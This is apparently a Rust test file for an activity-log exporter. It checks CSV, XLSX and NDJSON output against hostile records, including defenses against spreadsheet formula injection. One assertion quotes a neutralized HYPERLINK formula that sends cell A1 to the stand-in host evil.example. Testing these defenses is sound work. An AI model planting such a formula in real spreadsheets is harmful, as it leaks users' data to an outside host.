//! The exporter as a whole: every format end to end on the hostile data set, read back with
//! independent readers (the `csv` crate, a SpreadsheetML reader).

use std::io::{self, Cursor, Write};

use actlog_domain::OperationDate;
use actlog_domain::catalog::Lang;
use jiff::tz::TimeZone;

use super::*;

#[path = "../tests/support/hostile.rs"]
mod hostile;
#[path = "../tests/support/xlsx.rs"]
mod xlsx;

fn options(format: Format, lang: Lang, tz: &str) -> ExportOptions {
    let period = Period {
        from: OperationDate::parse_rfc3339("2025-02-28T23:00:00Z").unwrap(),
        to: Some(OperationDate::parse_rfc3339("2025-03-31T22:00:00Z").unwrap()),
    };
    ExportOptions::new(format, lang, TimeZone::get(tz).unwrap(), period)
}

fn export(options: &ExportOptions) -> (Vec<u8>, ExportSummary) {
    let mut out = Vec::new();
    let mut exporter = Exporter::new(&mut out, options).unwrap();
    for record in hostile::records() {
        exporter.write_record(&record).unwrap();
    }
    let summary = exporter.finish().unwrap();
    (out, summary)
}

fn read_csv(bytes: &[u8], separator: u8) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).unwrap();
    let body = text
        .strip_prefix('\u{feff}')
        .expect("a byte-order mark first");
    csv::ReaderBuilder::new()
        .delimiter(separator)
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn csv_cells_read_back_exactly_in_both_languages_and_every_separator() {
    for (lang, separator, tz) in [
        (Lang::En, None, "America/Los_Angeles"),
        (Lang::It, None, "Europe/Rome"),
        (Lang::It, Some('\t'), "Europe/Rome"),
        (Lang::En, Some(';'), "UTC"),
    ] {
        let mut opts = options(Format::Csv, lang, tz);
        opts.separator = separator;
        let (bytes, summary) = export(&opts);
        let rows = read_csv(&bytes, opts.effective_separator() as u8);
        let records = hostile::records();
        assert_eq!(rows.len(), records.len() + 1);
        assert_eq!(rows[0], headers(lang, tz));
        for (row, record) in rows[1..].iter().zip(&records) {
            let expected = hostile::expected_cells(record, lang, &opts.tz);
            assert_eq!(row.len(), COLUMN_COUNT);
            for (col, (actual, expected)) in row.iter().zip(&expected).enumerate() {
                let context = format!("{lang:?} {:?} {} column {col}", separator, record.id);
                hostile::assert_cell(actual, expected, is_dangerous(expected), lang, &context);
            }
        }
        assert_eq!(summary.rows, records.len() as u64);
        assert_eq!(summary.truncated_cells, 1);
        assert!(!summary.exceeded_excel_rows);
        assert_eq!(summary.sheets, 0);
    }
}

#[test]
fn csv_lines_end_with_crlf_and_neutralized_cells_are_quoted() {
    let (bytes, _) = export(&options(Format::Csv, Lang::En, "UTC"));
    let text = String::from_utf8(bytes).unwrap();
    assert!(text.ends_with("\r\n"));
    assert!(text.contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,"));
    assert!(text.contains(",\"'+1-555-0100\","));
    // Outside quoted fields every line ends with CRLF.
    let mut quoted = false;
    let mut previous = 0u8;
    for &b in text.as_bytes() {
        if b == b'"' {
            quoted = !quoted;
        }
        if b == b'\n' && !quoted {
            assert_eq!(previous, b'\r');
        }
        previous = b;
    }
}

#[test]
fn ndjson_is_the_api_form_one_record_per_line() {
    let (bytes, summary) = export(&options(Format::Ndjson, Lang::It, "Europe/Rome"));
    let text = String::from_utf8(bytes).unwrap();
    let records = hostile::records();
    let lines: Vec<&str> = text.split_terminator('\n').collect();
    assert_eq!(lines.len(), records.len());
    for (line, record) in lines.iter().zip(&records) {
        assert_eq!(*line, serde_json::to_string(record).unwrap());
    }
    assert_eq!(summary.truncated_cells, 0);
    assert_eq!(summary.sheets, 0);
}

#[test]
fn xlsx_has_date_cells_string_cells_and_no_formulas() {
    let opts = options(Format::Xlsx, Lang::It, "Europe/Rome");
    let (bytes, summary) = export(&opts);
    assert_eq!(summary.sheets, 1);
    assert_eq!(summary.truncated_cells, 1);
    let book = xlsx::read(Cursor::new(bytes));
    assert_eq!(
        book.title.as_deref(),
        Some("Log attività 2025-03-01 00:00:00 – 2025-04-01 00:00:00 (Europe/Rome)")
    );
    assert_eq!(book.sheets.len(), 1);
    let sheet = &book.sheets[0];
    assert_eq!(sheet.name, "Log attività");
    assert_eq!(sheet.autofilter.as_deref(), Some("A1:L11"));
    assert_eq!(sheet.frozen_rows, Some(1.0));
    assert!(sheet.widths[&11] >= 60.0);
    let header = headers(Lang::It, "Europe/Rome");
    for (col, text) in header.iter().enumerate() {
        let cell = sheet.cell(0, col).unwrap();
        assert_eq!(cell.text(), Some(text.as_str()));
        assert!(cell.bold);
    }
    for (index, record) in hostile::records().iter().enumerate() {
        let expected = hostile::expected_cells(record, Lang::It, &opts.tz);
        let date = sheet.cell(index + 1, 0).unwrap();
        assert!(date.is_date(), "{}: {date:?}", record.id);
        let local = opts.tz.to_datetime(record.operation_date.timestamp());
        let serial = xlsx::excel_serial(local.with().subsec_nanosecond(0).build().unwrap());
        assert!(matches!(date.value, xlsx::Value::Number(v) if (v - serial).abs() < 1e-9));
        for (col, expected) in expected.iter().enumerate().skip(1) {
            let context = format!("{} column {col}", record.id);
            let cell = sheet.cell(index + 1, col);
            let actual = cell.and_then(|c| c.text()).unwrap_or("");
            hostile::assert_cell(actual, expected, false, Lang::It, &context);
            if let Some(cell) = cell {
                assert_eq!(cell.formula, None, "{context}");
                assert_eq!(cell.quote_prefix, is_dangerous(expected), "{context}");
            }
        }
    }
}

#[test]
fn xlsx_continues_on_new_sheets_beyond_the_sheet_size() {
    let records = hostile::records();
    let mut out = Vec::new();
    let rome = TimeZone::get("Europe/Rome").unwrap();
    let mut xlsx =
        xlsx_out::XlsxOut::with_sheet_size(&mut out, Lang::En, rome, "t", None, 4).unwrap();
    for record in &records {
        xlsx.write_record(record).unwrap();
    }
    assert_eq!(xlsx.sheets(), 3);
    xlsx.finish().unwrap();
    let book = xlsx::read(Cursor::new(out));
    let names: Vec<&str> = book.sheets.iter().map(|s| s.name.as_str()).collect();
    assert_eq!(
        names,
        ["Activity log", "Activity log (2)", "Activity log (3)"]
    );
    let filters: Vec<_> = book
        .sheets
        .iter()
        .map(|s| s.autofilter.clone().unwrap())
        .collect();
    assert_eq!(filters, ["A1:L5", "A1:L5", "A1:L3"]);
    let ids: Vec<&str> = book
        .sheets
        .iter()
        .flat_map(|s| {
            s.rows[1..]
                .iter()
                .map(|r| r[10].as_ref().unwrap().text().unwrap())
        })
        .collect();
    let expected: Vec<&str> = records.iter().map(|r| r.id.as_str()).collect();
    assert_eq!(ids, expected);
    for sheet in &book.sheets {
        assert_eq!(sheet.frozen_rows, Some(1.0));
        assert!(sheet.cell(0, 0).unwrap().bold);
    }
}

#[test]
fn an_xlsx_export_writes_nothing_before_finish() {
    let mut out = Vec::new();
    let mut exporter = Exporter::new(&mut out, &options(Format::Xlsx, Lang::En, "UTC")).unwrap();
    for record in hostile::records() {
        exporter.write_record(&record).unwrap();
    }
    drop(exporter);
    assert!(out.is_empty());
}

/// A writer that accepts `budget` bytes, then fails like a dropped connection.
struct Failing {
    budget: usize,
}

impl Write for Failing {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        if self.budget == 0 {
            return Err(io::Error::new(
                io::ErrorKind::BrokenPipe,
                "client went away",
            ));
        }
        let n = buf.len().min(self.budget);
        self.budget -= n;
        Ok(n)
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[test]
fn a_failing_writer_is_reported_in_every_format() {
    for format in [Format::Csv, Format::Xlsx, Format::Ndjson] {
        let opts = options(format, Lang::En, "UTC");
        let mut exporter = Exporter::new(Failing { budget: 100 }, &opts).unwrap();
        let mut failed = false;
        for _ in 0..2000 {
            for record in hostile::records() {
                failed |= exporter.write_record(&record).is_err();
            }
            if failed {
                break;
            }
        }
        let finished = exporter.finish();
        assert!(
            failed || finished.is_err(),
            "{format}: the failure went unnoticed"
        );
    }
}

#[test]
fn an_unsupported_separator_is_refused_up_front() {
    let mut opts = options(Format::Csv, Lang::En, "UTC");
    opts.separator = Some('|');
    let err = Exporter::new(Vec::new(), &opts).unwrap_err();
    assert_eq!(
        err.to_string(),
        "`|` is not a CSV separator: use `,`, `;` or tab"
    );
}

#[test]
fn the_exporter_can_move_to_another_thread() {
    fn assert_send<T: Send>() {}
    assert_send::<Exporter<Vec<u8>>>();
    assert_send::<Exporter<std::fs::File>>();
}

/// Counts lines without keeping them.
#[derive(Default)]
struct LineCounter {
    lines: u64,
}

impl Write for LineCounter {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        self.lines += buf.iter().filter(|&&b| b == b'\n').count() as u64;
        Ok(buf.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[test]
fn excel_holds_1_048_575_records_under_the_header() {
    assert!(!exceeds_excel(1_048_575));
    assert!(exceeds_excel(1_048_576));
}

#[test]
fn a_csv_beyond_excel_rows_is_complete_and_flagged() {
    let record = hostile::records().pop().unwrap();
    let opts = options(Format::Csv, Lang::En, "UTC");
    let rows = 1_048_577;
    let mut counter = LineCounter::default();
    let mut exporter = Exporter::new(&mut counter, &opts).unwrap();
    for _ in 0..rows {
        exporter.write_record(&record).unwrap();
    }
    let summary = exporter.finish().unwrap();
    assert_eq!(summary.rows, rows);
    assert!(summary.exceeded_excel_rows);
    assert_eq!(
        counter.lines,
        rows + 1,
        "every row and the header are written"
    );
}

/// Fuzzing found the test oracle counting a long cell's characters without the record's own
/// leading apostrophe (`'x'x…`, `'====x…`), as if the export had added it: only the apostrophe
/// before a formula is the export's, and the marker counts every character the record holds.
#[test]
fn a_long_cell_of_text_starting_with_an_apostrophe_counts_the_apostrophe() {
    let mut record = hostile::records().remove(0);
    for (text, added) in [
        ("'x".repeat(16_501), false),
        ("'=x".repeat(11_001), false),
        ("=x".repeat(16_501), true),
    ] {
        record.customer_name = Some(text.clone());
        let opts = options(Format::Csv, Lang::En, "UTC");
        let mut out = Vec::new();
        let mut exporter = Exporter::new(&mut out, &opts).unwrap();
        exporter.write_record(&record).unwrap();
        assert_eq!(exporter.finish().unwrap().truncated_cells, 1);
        let rows = read_csv(&out, b',');
        let total = text.chars().count();
        let marker = format!("… [truncated: {total} characters in total]");
        assert!(rows[1][1].ends_with(&marker), "{}", &rows[1][1][32_700..]);
        assert_eq!(
            rows[1][1].starts_with("''"),
            added && text.starts_with('\'')
        );
        assert_eq!(
            rows[1][1].starts_with("'="),
            added || text.starts_with("'=")
        );
        hostile::assert_cell(&rows[1][1], &text, added, Lang::En, "customer name");
    }
}
